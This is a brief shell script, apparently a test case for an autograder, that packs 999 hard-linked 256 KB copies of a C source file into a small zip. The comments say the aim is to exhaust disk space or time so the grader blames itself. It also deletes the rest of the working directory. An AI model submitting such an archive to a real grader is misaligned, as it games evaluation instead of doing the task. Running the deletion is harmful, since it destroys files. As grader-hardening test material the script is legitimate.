#!/bin/sh
# attack: 400 KB of zip that hold the answer 999 times with 256 KB each: the disk is full, or reading them takes long, and the grader shall take that for its own fault
# score: 0
# named: holds at least 4.2 MB of the lab's files in places that are equally good, expected at most 4 MB
head -c 262144 /dev/zero | tr '\0' ' ' >text
rm -f kdtree2d_build.c
for i in $(seq 999); do
    mkdir "$i" && ln text "$i/kdtree2d_build.c"
done
zip -q -r archive.zip [0-9]*
find . -mindepth 1 ! -name archive.zip -delete
